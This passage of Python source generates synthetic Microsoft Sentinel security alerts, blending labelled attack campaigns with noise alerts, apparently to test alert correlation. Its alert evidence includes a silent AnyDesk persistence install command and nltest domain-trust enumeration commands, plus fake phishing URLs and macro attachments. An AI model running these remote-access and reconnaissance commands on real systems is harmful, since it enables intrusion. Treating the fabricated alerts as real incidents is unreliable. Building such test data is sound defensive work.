        name = rng.choice(_NOISE_SENTINEL)
        p = w.pick_person(rng)
        e = _Ents()
        names = _Names(account=p.upn)
        if name in _WINDOWS_NOISE:
            host = p.host if rng.random() < 0.5 else w.pick_server(rng)
            self.account_sentinel(e, p, windows=True)
            self.host_sentinel(e, host)
            names.update(account=f"{NT_DOMAIN}\\{p.sam}", host=host.name)
            if name != "Excessive Windows logon failures":
                source = w.pick_workstation(rng)
                self.ip_internal(e, source.ip)
                names["ip"] = source.ip
        elif name == "Potential DGA detected":
            host = w.pick_workstation(rng)
            self.host_sentinel(e, host)
            self.ip_internal(e, host.ip)
            domain = f"{_hex(rng, 12)}.{rng.choice(w.cat.TLDS)}"
            e.add({"DomainName": domain, "Type": "dns"})
            names.update(host=host.name, ip=host.ip, dns=domain)
        elif name == "Login to AWS Management Console without MFA":
            ip = w.pick_external(rng)
            e.add({"Name": p.upn_name, "CloudAppAccountId": "123456789012", "Type": "account"})
            e.add(ip.body)
            names.update(account=p.upn_name, ip=ip.address)
        else:
            self.account_sentinel(e, p)
            if name == "User added to Azure AD Privileged Groups":
                self.account_sentinel(e, rng.choice(w.admins))
            elif name == "Rare application consent":
                app = rng.choice(OAUTH_APPS)
                self.oauth_app(e, app, str(uuid.uuid5(_RULE_NAMESPACE, app[0])))
                names["oauthapplication"] = app[0]
            elif name == "Suspicious number of resource creation or deployment activities":
                vm = w.pick_vm(rng)
                self.azure_resource(e, vm)
                names["azureresource"] = vm.name
            elif name == "Multiple Password Reset by user":
                pass
            else:
                if name == "Rare and potentially high-risk Office operations":
                    owner = w.pick_person(rng)
                    self.mailbox(e, owner)
                    names["mailbox"] = owner.upn
                elif name == "New access credential added to Application or Service Principal":
                    app = rng.choice(list(AAD_APP_IDS))
                    self.cloud_app_aad(e, app)
                    names["cloudapplication"] = app
                ips = [w.pick_external(rng)]
                if name == "Successful logon from IP and failure from a different IP":
                    ips.append(w.pick_external(rng))
                for ip in ips:
                    e.add(ip.body)
                names["ip"] = ips[0].address
        return _Alert(self.rules[name], e, names, duration=rng.uniform(0, 3600))

    def noise_defender(self, end: float) -> _Alert:
        rng, w = self.rng, self.w
        r = rng.random()
        p = w.pick_person(rng)
        e = _Ents()
        if r < 0.16:
            host = p.host
            command = "AnyDesk.exe --install C:\\ProgramData\\AnyDesk --start-with-win --silent"
            self.process_tree(
                e, end, host, p, "anydesk", command, "explorer", r"C:\Windows\Explorer.EXE"
            )
            domain = f"relay-{_hex(rng, 8)}.net.anydesk.com"
            e.add({"DomainName": domain, "Type": "dns"})
            alert = self._mdatp("Uncommon remote access software", e, host, command, p.sam)
            alert.names["dns"] = domain
            return alert
        if r < 0.3:
            host = p.host
            command = rng.choice(("nltest.exe /domain_trusts /all_trusts", "nltest.exe /dclist:"))
            self.process_tree(e, end, host, p, "nltest", command, "cmd", "cmd.exe")
            return self._mdatp(
                "Suspicious sequence of exploration activities", e, host, command, p.sam
            )
        if r < 0.45:
            app = w.pick_app(rng)
            ip = w.pick_external(rng)
            self.account_aad(e, p)
            e.add(ip.body)
            self.cloud_app_mcas(e, app)
            names = _Names(account=p.upn, ip=ip.address, cloudapplication=app)
            return _Alert(self.rules["Activity from infrequent country"], e, names, p.upn)
        if r < 0.62:
            rule = "Atypical travel" if r < 0.54 else "Anonymous IP address"
            return self.ipc_signin(None, end, rule, p, w.pick_external(rng))
        if r < 0.82:
            domain = w.phish_domain(rng)
            url = f"https://{domain}/{_hex(rng, 10)}"
            ip = w.pick_external(rng)
            self.mailbox(e, p)
            e.add({"Url": url, "Type": "url"})
            e.add(ip.body)
            self.mail_message(
                e,
                p,
                network_message_id=_guid(rng),
                internet_message_id=f"<{_hex(rng, 20)}@{domain}>",
                sender=f"{rng.choice(SENDER_LOCALPARTS)}@{domain}",
                sender_ip=ip.address,
                subject=rng.choice(PHISH_SUBJECTS).format(n=rng.randint(1, 9999), n2=10),
                received=end - rng.uniform(600, 86400),
                urls=[url],
            )
            names = _Names(mailbox=p.upn, url=url, ip=ip.address)
            rule = self.rules["Email reported by user as malware or phish"]
            return _Alert(rule, e, names, p.upn)
        if r < 0.92:
            self.mailbox(e, p)
            name = f"invoice_{rng.randint(100, 99999)}.docm"
            self.file_with_hashes(e, "", name, _hex(rng, 40), _hex(rng, 64))
            names = _Names(mailbox=p.upn, file=name)
            rule = self.rules["Email messages containing malicious file removed after delivery"]
            return _Alert(rule, e, names, p.upn)
        host = p.host
        self.account_mdi(e, p)
        e.add(host.mdi)
        self.ip_internal(e, host.ip)
        names = _Names(account=p.sam, host=host.name, ip=host.ip)
        rule = self.rules["Suspected brute-force attack (Kerberos, NTLM)"]
        return _Alert(rule, e, names, host.name)

    def noise_asc(self) -> _Alert:
        rng, w = self.rng, self.w
        vm = w.pick_vm(rng)
        ip = w.pick_external(rng)
        e = _Ents()
        self.azure_resource(e, vm)
        names = _Names(host=vm.name, ip=ip.address)
        if rng.random() < 0.5:
            self.host_asc(e, vm)
            e.add(ip.body)
            failed = str(rng.randint(50, 4000))
            return self._asc(
                "Suspicious authentication activity", e, vm, names, **{"Failed attempts": failed}
            )
        e.add(ip.body)
        return self._asc(
            "Traffic detected from IP addresses recommended for blocking", e, vm, names
        )

    # -- the stream -----------------------------------------------------------------

    def plan(self, count: int) -> list:
        rng = self.rng
        updates = int(count * UPDATE_SHARE) if count >= MIN_ROWS_FOR_UPDATES else 0
        base = count - updates
        budget = round(base * ATTACK_SHARE) if base >= 8 else 0
        planners = {
            "phishing": self.plan_phishing,
            "spray": self.plan_spray,
            "ransomware": self.plan_ransomware,
            "cloud": self.plan_cloud,
        }
        # Round after round of every kind of attack, each round in a random order.
        queue: list[str] = []
        numbers = dict.fromkeys(planners, 0)
        slots: list[list] = []
        while budget > 0:
            if not queue:
                queue = list(planners)
                rng.shuffle(queue)
            kind = queue.pop()
            numbers[kind] += 1
            ctx, steps = planners[kind](f"{kind}-{numbers[kind]}")
            steps.sort(key=lambda step: step[0])
            steps = steps[:budget]
            budget -= len(steps)
            length = steps[-1][0]
            factor = min(1.0, 0.9 * self.span / length) if length else 1.0
            begin = rng.uniform(0, max(0.0, self.span - length * factor))
            for offset, build in steps:
                slots.append([begin + offset * factor, 0, build, ctx, None])
        noise = self.noise
        for _ in range(base - len(slots)):
            slots.append([rng.uniform(0, self.span), 0, noise, None, None])
        slots.sort(key=lambda slot: slot[0])
        for seq, slot in enumerate(slots):
            slot[1] = seq
        # Re-sends: an alert from the first 90% of the stream comes again, hours later.
        chosen = rng.sample(range(int(len(slots) * 0.9)), updates) if updates else []
        for n, seq in enumerate(sorted(chosen)):
            t = slots[seq][0]
            later = t + rng.uniform(0.05, 1.0) * min(8 * 3600.0, self.span - t)
            slots[seq][4] = True
            slots.append([later, base + n, None, seq, None])
        slots.sort(key=lambda slot: (slot[0], slot[1]))
        return slots

    def rows(self, count: int) -> Iterator[tuple[str | None, dict]]:
        rng = self.rng
        pending: dict[int, tuple[str | None, float, dict]] = {}
        for t, seq, build, ctx, resent in self.plan(count):
            if build is None:  # a re-send of the alert of slot `ctx`
                label, first_t, original = pending.pop(ctx)
                yield label, self.updated(original, t, t - first_t)
                continue
            end = t - rng.uniform(45, 600)
            alert = build(end)
            if ctx is not None or resent:
                status = "New"
            else:
                r = rng.random()
                status = (
                    "New"
                    if r < 0.86
                    else "Resolved"
                    if r < 0.92
                    else "InProgress"
                    if r < 0.96
                    else "Dismissed"
                )
            row = self.row(t, end, alert, status, ctx)
            label = ctx.label if ctx is not None else None
            if resent:
                pending[seq] = (label, t, row)
            yield label, row


_WINDOWS_NOISE = frozenset(
    {
        "Failed logon attempts by valid accounts within 10 mins",
        "Rare RDP Connections",
        "Excessive Windows logon failures",
        "Anomalous RDP Login Detections",
    }
)
_NOISE_SENTINEL = (
    "Failed logon attempts by valid accounts within 10 mins",
    "Failed logon attempts by valid accounts within 10 mins",
    "Rare RDP Connections",
    "Rare RDP Connections",
    "Excessive Windows logon failures",
    "User added to Azure AD Privileged Groups",
    "Successful logon from IP and failure from a different IP",
    "Rare application consent",
    "Mail redirect via ExO transport rule",
    "Login to AWS Management Console without MFA",
    "Login to AWS Management Console without MFA",
    "Suspicious number of resource creation or deployment activities",
    "Multiple Password Reset by user",
    "Potential DGA detected",
    "Rare and potentially high-risk Office operations",
    "Anomalous RDP Login Detections",
    "New access credential added to Application or Service Principal",
    "TI map IP entity to SigninLogs",
)


# --- the interface -----------------------------------------------------------------


def labelled_rows(
    count: int, *, seed: int = 1, start: datetime | None = None, hours: float = 72
) -> Iterator[tuple[str | None, dict]]:
    """`generate_rows` with each row's attack: "phishing-2", "spray-1", … or None for noise.

    The labels are the ground truth of which alerts belong together; they are not part of
    the rows (Sentinel has no such column).
    """
    if count < 0:
        raise ValueError("count must not be negative")
    if hours <= 0:
        raise ValueError("hours must be positive")
    gen = _Gen(seed, start or DEFAULT_START, hours)
    return gen.rows(count)


def generate_rows(
    count: int, *, seed: int = 1, start: datetime | None = None, hours: float = 72
) -> Iterator[dict]:
    """`count` SecurityAlert rows over `hours` from `start` (default 2026-11-23 08:00 UTC).

    The same arguments always give the same rows, in TimeGenerated order. Naive `start`
    is taken as UTC.
    """
    for _, row in labelled_rows(count, seed=seed, start=start, hours=hours):
        yield row


def write_sample(path, count: int = 300, seed: int = 1) -> None:
    """Write `generate_rows(count, seed=seed)` to `path` as JSON lines, one row a line."""
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8", newline="\n") as out:
        for row in generate_rows(count, seed=seed):
            out.write(json.dumps(row, ensure_ascii=False))
            out.write("\n")
